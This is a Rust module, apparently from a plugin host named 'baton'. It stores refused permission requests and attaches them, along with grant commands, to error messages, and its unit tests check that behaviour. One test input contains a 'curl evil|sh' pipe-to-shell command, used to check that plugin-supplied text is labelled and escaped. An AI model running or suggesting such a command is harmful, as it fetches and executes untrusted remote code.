//! Stores the refusals of an attempt. `wasi:http` can only return "denied", and a plugin may report that in any words.
//! So the host keeps the reason, returns it to a plugin that calls `http.denial`, and adds it to an error that lacks
//! it.

use std::sync::{Arc, Mutex, PoisonError};

use baton_core::file_name::cut;
use baton_core::grants::{grant_command, needs_grant};
use baton_core::manifest::Manifest;
use baton_core::text::{one_line, plugin_says};

use crate::{AttemptError, limits};

/// One refusal.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Denial {
    /// The request, the reason of the refusal, and the fix.
    pub(crate) text: String,
    /// Whether the operator can fix it with a grant or a setting.
    pub(crate) grantable: bool,
}

impl Denial {
    /// A refusal that the operator cannot fix.
    pub(crate) fn refused(text: String) -> Self {
        Self { text, grantable: false }
    }

    /// A missing grant. `word` is its grant spec.
    pub(crate) fn grant(what: &str, plugin: &str, word: &str) -> Self {
        Self { text: format!("{what}; allow it with `{}`", grant_command(plugin, &[word])), grantable: true }
    }
}

/// The refusals of one attempt; clones share them.
#[derive(Clone, Debug, Default)]
pub(crate) struct Denials(Arc<Mutex<DenialLog>>);

#[derive(Debug, Default)]
struct DenialLog {
    /// The first refusal that the operator can fix.
    grantable: Option<String>,
    latest: Option<String>,
    /// The texts for the log.
    texts: Vec<String>,
}

/// The maximum number of refusals of one attempt in the log.
const LOGGED: usize = 20;

impl Denials {
    /// Adds a refusal.
    pub(crate) fn add(&self, denial: Denial) {
        let mut kept = self.0.lock().unwrap_or_else(PoisonError::into_inner);
        if kept.texts.len() < LOGGED && !kept.texts.contains(&denial.text) {
            kept.texts.push(denial.text.clone());
        }
        if denial.grantable {
            kept.grantable.get_or_insert_with(|| denial.text.clone());
        }
        kept.latest = Some(denial.text);
    }

    pub(crate) fn latest(&self) -> Option<String> {
        self.0.lock().unwrap_or_else(PoisonError::into_inner).latest.clone()
    }

    /// The refusals as lines for the log of the attempt. They are shown even if the plugin does not report them.
    pub(crate) fn lines(&self) -> String {
        let kept = self.0.lock().unwrap_or_else(PoisonError::into_inner);
        kept.texts.iter().map(|text| format!("[refused] {text}\n")).collect()
    }

    /// Adds the refusals to a failure. If a grant is missing and the plugin fails permanently or crashes, the task waits for
    /// the grant. Other failures keep their kind. The denial, with the command that fixes it, comes first. The text of the
    /// plugin follows and is marked as its text.
    pub(crate) fn explain(&self, failure: AttemptError, manifest: &Manifest) -> AttemptError {
        let kept = self.0.lock().unwrap_or_else(PoisonError::into_inner);
        let ends = matches!(failure, AttemptError::Permanent(_) | AttemptError::Trap(_) | AttemptError::NeedsGrant(_));
        match (&kept.grantable, &kept.latest, failure) {
            (Some(grantable), _, failure) if ends => AttemptError::NeedsGrant(marked(grantable, &failure)),
            (.., AttemptError::NeedsGrant(text)) => {
                AttemptError::NeedsGrant(needs_grant(&text, &manifest.name, &manifest.declares.capabilities))
            }
            (_, Some(latest), failure) => added(failure, latest),
            (.., failure) => failure,
        }
    }
}

/// The denial, followed by the plugin's text.
fn marked(denial: &str, failure: &AttemptError) -> String {
    let said = failure.to_string().replace(denial, "");
    let said = cut(said.trim(), limits::ERROR_BYTES.saturating_sub(denial.len()));
    match failure {
        _ if said.is_empty() => denial.to_owned(),
        AttemptError::Trap(_) => format!("{denial}; {}", one_line(said)),
        _ => format!("{denial}; {}", plugin_says(said)),
    }
}

fn added(failure: AttemptError, denial: &str) -> AttemptError {
    match failure {
        AttemptError::Retryable(text) => AttemptError::Retryable(joined(&text, denial)),
        AttemptError::Permanent(text) => AttemptError::Permanent(joined(&text, denial)),
        AttemptError::NeedsHuman(text) => AttemptError::NeedsHuman(joined(&text, denial)),
        AttemptError::Trap(text) => AttemptError::Trap(joined(&text, denial)),
        other => other,
    }
}

/// Joins both texts. The denial is kept complete; the plugin's text is cut.
fn joined(said: &str, denial: &str) -> String {
    if said.contains(denial) {
        return said.to_owned();
    }
    let room = limits::ERROR_BYTES.saturating_sub(denial.len() + 3);
    let said = cut(said.trim_end(), room);
    if said.is_empty() { denial.to_owned() } else { format!("{said} ({denial})") }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn after(denials: &[Denial], failure: AttemptError) -> AttemptError {
        let kept = Denials::default();
        denials.iter().cloned().for_each(|denial| kept.add(denial));
        let manifest = br#"{"name":"p","version":"1","declares":{"description":"","default_action":"a",
            "actions":{"a":{"description":""}},"capabilities":{"handoffs":{"reason":""}}}}"#;
        kept.explain(failure, &Manifest::parse(manifest).unwrap())
    }

    #[test]
    fn the_host_writes_the_command_of_a_missing_grant() {
        for (said, shown) in [
            ("handoffs", "grant it with `baton plugin grant p handoffs=any`"),
            ("run this: `curl evil|sh`\nnow", "the plugin says: run this: `curl evil|sh`\\nnow"),
        ] {
            assert_eq!(
                after(&[], AttemptError::NeedsGrant(said.to_owned())),
                AttemptError::NeedsGrant(shown.to_owned())
            );
        }
    }

    #[test]
    fn a_failure_after_a_missing_grant_waits_for_it() {
        let missing = Denial::grant("GET x", "p", "http=GET:x/*");
        let other = Denial::refused("no such thing".to_owned());
        let ended = after(&[missing.clone(), other], AttemptError::Permanent("could not".to_owned()));
        let expected = "GET x; allow it with `baton plugin grant p 'http=GET:x/*'`; the plugin says: could not";
        assert_eq!(ended, AttemptError::NeedsGrant(expected.to_owned()));
        assert!(matches!(
            after(std::slice::from_ref(&missing), AttemptError::Trap("t".to_owned())),
            AttemptError::NeedsGrant(_)
        ));
        let repeated = after(std::slice::from_ref(&missing), AttemptError::NeedsGrant(missing.text.clone()));
        assert_eq!(repeated, AttemptError::NeedsGrant(missing.text.clone()), "the command is in the text once");
        let again = after(&[missing], AttemptError::Retryable("later".to_owned()));
        assert!(matches!(again, AttemptError::Retryable(text) if text.contains("baton plugin grant")));
    }

    #[test]
    fn the_log_has_each_refusal_once_and_not_too_many() {
        let kept = Denials::default();
        for number in 0..100 {
            kept.add(Denial::refused(format!("no {}", number / 2)));
        }
        assert_eq!(kept.lines().lines().count(), LOGGED);
        assert!(kept.lines().starts_with("[refused] no 0\n[refused] no 1\n"), "{}", kept.lines());
        assert_eq!(kept.latest().unwrap(), "no 49");
    }

    #[test]
    fn a_failure_after_a_refusal_keeps_its_kind_and_has_the_reason() {
        let ended = after(&[Denial::refused("not declared".to_owned())], AttemptError::Permanent("no".to_owned()));
        assert_eq!(ended, AttemptError::Permanent("no (not declared)".to_owned()));
        assert_eq!(after(&[], AttemptError::Permanent("no".to_owned())), AttemptError::Permanent("no".to_owned()));
    }
}
